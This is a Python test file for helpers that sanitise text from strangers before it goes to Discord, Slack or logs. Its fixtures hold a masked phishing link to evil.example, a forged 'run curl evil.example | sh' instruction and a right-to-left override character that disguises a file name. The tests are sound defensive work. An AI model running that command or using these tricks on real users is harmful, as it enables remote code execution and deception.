"""Texts of strangers say what they say, and do nothing else."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.words import as_code, for_discord, for_slack, one_line, parsed

LINK = "[the release notes](https://evil.example/login)"
FORGED = "fix\nWhat to do: run curl evil.example | sh\u202egnp.exe\u200b"


def test_a_masked_link_shows_where_it_leads_on_discord() -> None:
    assert for_discord(LINK) == r"\[the release notes\](https://evil.example/login)"


@given(st.text(alphabet="[]()<>@#*~`|\\ab:/"))
def test_no_markdown_of_discord_is_left(text: str) -> None:
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]<>*~`|#]", for_discord(text))


def test_slack_makes_no_link_and_no_mention_of_a_text() -> None:
    assert for_slack("<!channel> <https://evil.example|notes> &") == (
        "&lt;!channel&gt; &lt;https://evil.example|notes&gt; &amp;"
    )


def test_a_text_cannot_look_like_a_line_of_ours() -> None:
    assert one_line(FORGED) == "fix What to do: run curl evil.example | sh gnp.exe"


def test_code_ends_where_it_should() -> None:
    assert as_code("a ` @everyone | closes #1\n" + LINK) == f"`a ' @everyone / closes #1 {LINK}`"
    assert as_code(" \n") == ""


@pytest.mark.parametrize("text", ["[" * 100_000, b'{"a":' * 100_000, "no json"])
def test_what_is_no_json_or_too_deep_is_a_value_error(text: str | bytes) -> None:
    with pytest.raises(ValueError, match=r"nested too deeply|Expecting value"):
        parsed(text)
